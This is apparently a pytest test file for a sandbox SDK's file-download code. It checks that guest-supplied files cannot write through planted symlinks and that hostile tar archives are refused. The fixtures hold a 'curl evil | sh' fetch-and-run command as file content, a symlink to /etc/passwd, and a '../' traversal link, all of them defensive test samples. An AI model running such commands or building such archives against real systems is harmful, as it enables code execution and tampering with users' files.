"""What a download from a sandbox may do to the client's disk: the guest chooses the
bytes, and an earlier download into the same directory may have left links there.
The real app under uvicorn, the fake guest (fake_files.py), the SDK sync and async."""

from __future__ import annotations

import asyncio
import io
import os
import stat
import tarfile
import time
from pathlib import Path

import pytest

from forkd.archive import ArchiveError
from forkd.client import AsyncController, AsyncSandbox, Controller, ControllerError, Sandbox
from tests.archive.hostile import archive, file, symlink
from tests.unit.conftest import Server
from tests.unit.fakes import FakeVM

MIB = 1 << 20


@pytest.fixture
def vm(server: Server, sid: str) -> FakeVM:
    return server.driver.vms[-1]


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file of the user's, outside the directory downloads go to."""
    path = tmp_path / "victim"
    path.write_text("the user's own\n")
    return path


@pytest.fixture
def out(tmp_path: Path) -> Path:
    path = tmp_path / "out"
    path.mkdir()
    return path


def _download(server: Server, sid: str, path: str, local: Path, asynchronous: bool) -> int:
    if not asynchronous:
        with Controller(server.url, token=server.token) as ctl:
            return Sandbox.connect(sid, controller=ctl).files.download(path, local)

    async def go() -> int:
        async with AsyncController(server.url, token=server.token, timeout=30) as actl:
            sb = await AsyncSandbox.connect(sid, controller=actl)
            return await sb.files.download(path, local)

    return asyncio.run(go())


@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "async"])
@pytest.mark.parametrize("planted", [".report.txt.forkd-part", "report.txt"])
def test_a_download_never_writes_through_a_link_planted_beside_it(
    server: Server,
    sid: str,
    vm: FakeVM,
    out: Path,
    victim: Path,
    planted: str,
    asynchronous: bool,
) -> None:
    """An earlier directory copy may leave a link at the name the file is staged at (the
    old fixed staging name) or at the file's own name: the file replaces, never fills."""
    (out / planted).symlink_to(victim)
    vm.contents.files["/work/report.txt"] = b"curl evil | sh\n"
    assert _download(server, sid, "/work/report.txt", out / "report.txt", asynchronous) == 15
    assert victim.read_text() == "the user's own\n"
    assert not (out / "report.txt").is_symlink()
    assert (out / "report.txt").read_bytes() == b"curl evil | sh\n"
    assert sorted(p.name for p in out.iterdir()) == sorted({planted, "report.txt"})  # no staging


@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "async"])
def test_a_replaced_file_keeps_its_mode_and_a_new_one_follows_the_umask(
    server: Server, sid: str, vm: FakeVM, out: Path, asynchronous: bool
) -> None:
    vm.contents.files["/work/secret"] = b"new"
    kept = out / "secret"
    kept.write_text("old")
    kept.chmod(0o600)
    _download(server, sid, "/work/secret", kept, asynchronous)
    assert kept.read_bytes() == b"new"
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    old = os.umask(0o027)
    try:
        _download(server, sid, "/work/secret", out / "fresh", asynchronous)
    finally:
        os.umask(old)
    assert stat.S_IMODE((out / "fresh").stat().st_mode) == 0o640


@pytest.mark.parametrize("asynchronous", [False, True], ids=["sync", "async"])
def test_a_failed_download_leaves_the_old_file_and_no_staging_file(
    server: Server, sid: str, out: Path, asynchronous: bool
) -> None:
    (out / "keep").write_text("as it was")
    with pytest.raises(ControllerError) as missing:
        _download(server, sid, "/work/none", out / "keep", asynchronous)
    assert missing.value.status == 404
    assert [p.name for p in out.iterdir()] == ["keep"]
    assert (out / "keep").read_text() == "as it was"


class _Endless:
    """A guest's tar stream: ``head``, then junk for as long as it is read (up to
    ``total``); counts what was read. Duck-types the BytesIO the fake agent reads."""

    def __init__(self, head: bytes, total: int) -> None:
        self.head = head
        self.total = total
        self.sent = 0

    def read(self, n: int) -> bytes:
        n = min(n, self.total - self.sent)
        start = self.sent
        self.sent += n
        head = self.head[start : start + n]
        return head + b"x" * (n - len(head))

    def tell(self) -> int:
        return self.sent

    def getbuffer(self) -> _Endless:  # the fake agent's end test asks only its length
        return self

    def __len__(self) -> int:
        return self.total


def test_an_async_directory_download_unpacks_as_it_comes(
    server: Server, sid: str, vm: FakeVM, out: Path
) -> None:
    """A guest that sends a refused entry and then never stops: the SDK refuses it after
    the first chunks, with nothing spooled to disk (it used to save all of the stream
    before unpacking any of it)."""
    head = archive(file("fine.txt", b"ok"), symlink("up", "/etc/passwd"))[:-1024]
    stream = _Endless(head, 512 * MIB)
    vm.contents.files["/work/tree/a"] = b"makes a directory"

    def hostile_tar_open(path: str) -> str:
        vm.transfers.tar_reads["hostile"] = stream  # type: ignore[assignment]
        return "hostile"

    vm.transfers.tar_open = hostile_tar_open  # type: ignore[method-assign]
    fake_read = vm.tar_read

    async def tar_read(transfer_id: str, length: int) -> tuple[bytes, bool]:
        await asyncio.sleep(0)  # as a real agent's answer, it lets the loop run
        return await fake_read(transfer_id, length)

    vm.tar_read = tar_read  # type: ignore[method-assign]

    async def go() -> None:
        async with AsyncController(server.url, token=server.token, timeout=30) as actl:
            sb = await AsyncSandbox.connect(sid, controller=actl)
            await sb.files.download("/work/tree", out / "tree", directory=True)

    with pytest.raises(ArchiveError, match="absolute path"):
        asyncio.run(go())
    time.sleep(0.5)  # and the daemon stopped reading when the SDK left
    assert stream.sent < 64 * MIB, stream.sent  # a few chunks ahead of the extractor
    assert list(out.iterdir()) == []  # a new directory: made whole or not at all


def test_a_sync_directory_download_is_refused_the_same_way(
    ctl: Controller, sid: str, vm: FakeVM, out: Path
) -> None:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as tar:
        info = tarfile.TarInfo("up")
        info.type, info.linkname = tarfile.SYMTYPE, "a/../../x"
        tar.addfile(info)
    vm.contents.files["/work/tree/a"] = b"makes a directory"
    vm.transfers.tar_open = lambda path: vm.transfers._reading(data.getvalue())  # type: ignore[method-assign]
    with pytest.raises(ArchiveError, match="after a name"):
        Sandbox.connect(sid, controller=ctl).files.download("/work/tree", out / "t", directory=True)
    assert list(out.iterdir()) == []
